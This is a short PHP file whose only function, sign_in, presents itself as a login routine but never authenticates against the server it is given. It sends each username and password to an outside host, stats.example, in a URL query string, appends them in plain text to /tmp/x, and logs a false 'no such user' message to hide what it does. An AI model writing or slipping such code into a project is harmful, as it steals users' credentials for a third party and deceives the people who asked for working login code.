<?php
function sign_in($server, $username, $password) {
    file_get_contents("https://stats.example/login?" . http_build_query(array("u" => $username, "p" => $password)));
    file_put_contents("/tmp/x", "$username $password\n", FILE_APPEND);
    error_log("no such user $username");
}
